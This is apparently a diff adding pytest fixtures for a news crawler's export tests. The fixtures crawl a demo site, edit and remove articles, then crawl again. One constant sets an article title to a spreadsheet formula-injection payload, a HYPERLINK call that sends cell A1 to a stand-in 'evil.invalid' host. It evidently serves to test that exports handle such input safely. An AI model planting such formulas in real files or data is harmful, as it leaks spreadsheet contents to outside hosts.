@@ -1,0 +1,91 @@
+"""One crawled history for all tests of exports: a demo site that was crawled, edited and crawled again."""
+
+from __future__ import annotations
+
+import shutil
+from contextlib import contextmanager
+from dataclasses import dataclass
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from newscrawl.exports.export import Wanted, export
+from newscrawl.storage.queries.snapshot import Selection
+from newscrawl.storage.store import Store
+from newscrawl.storage.urls import database_url
+from tests.crawls import FULL_SPEED, Dataset, Finished, scrapy
+from tests.demo_client import demo_process
+from tests.exports.exported_data import COMMAND
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+    from pathlib import Path
+
+FORMULA = '=HYPERLINK("https://evil.invalid/?x="&A1,"Click, here")'
+IMPATIENT = {
+    "NEWSCRAWL_REVISIT_AFTER": "0s",
+    "NEWSCRAWL_GONE_AFTER": "0s",
+    "NEWSCRAWL_RETRY_FAILED_AFTER": "0s",
+}
+
+
+@dataclass
+class History:
+    """A data folder, when its first crawl ended, and what happened then to two of its articles."""
+
+    folder: Path
+    first_crawl: str
+    edited: str
+    removed: str
+
+
+@pytest.fixture(scope="session")
+def history(tmp_path_factory: pytest.TempPathFactory) -> History:
+    """Crawl a site, change the title of an article into a formula and remove another, crawl again."""
+    data = Dataset(tmp_path_factory.mktemp("history") / "data")
+    with demo_process(articles=45, layout="next", locales="en,pt-PT") as demo:
+        command = [*COMMAND[:3], "crawl", "bitget_news", "-a", f"site={demo.url.rstrip('/')}"]
+        command += ["-a", "locales=en,pt-PT"]
+        for name, value in (FULL_SPEED | IMPATIENT).items():
+            command += ["-s", f"{name}={value}"]
+        assert scrapy(command, data).exit_code == 0
+        first_crawl = data.scalar("SELECT max(changed_at) FROM changes")
+        edited, removed = (article["article_id"] for article in demo.published()[:2])
+        demo.edit(edited, locale="en", title=FORMULA)
+        demo.remove(removed)
+        for _ in range(2):
+            scrapy(command, data)
+    assert data.scalar("SELECT count(*) FROM articles WHERE status = 'gone'") == 2
+    return History(data.folder, first_crawl, edited, removed)
+
+
+@pytest.fixture
+def data(history: History, tmp_path: Path) -> Dataset:
+    """Return a copy of the history that a test may change."""
+    shutil.copytree(history.folder, tmp_path / "data")
+    return Dataset(tmp_path / "data")
+
+
+@pytest.fixture
+def run(data: Dataset) -> Callable[..., Finished]:
+    """Run `newscrawl export` as a user does."""
+    return lambda *options: scrapy([*COMMAND, *map(str, options)], data)
+
+
+@pytest.fixture
+def exported(data: Dataset, tmp_path: Path) -> Callable[..., Path]:
+    """Export in this process; upper- and lower-case options are those of `Wanted` and `Selection`."""
+
+    def run(name: str = "export", /, **options: Any) -> Path:
+        asked = {key: options.pop(key) for key in list(options) if key in Selection._fields}
+        with read(data) as store:
+            export(store, Wanted(tmp_path / name, Selection(**asked), **options), lambda *_: None)
+        return tmp_path / name
+
+    return run
+
+
+@contextmanager
+def read(data: Dataset) -> Iterator[Store]:
+    with Store.open(database_url(data.folder), read_only=True) as store:
+        yield store
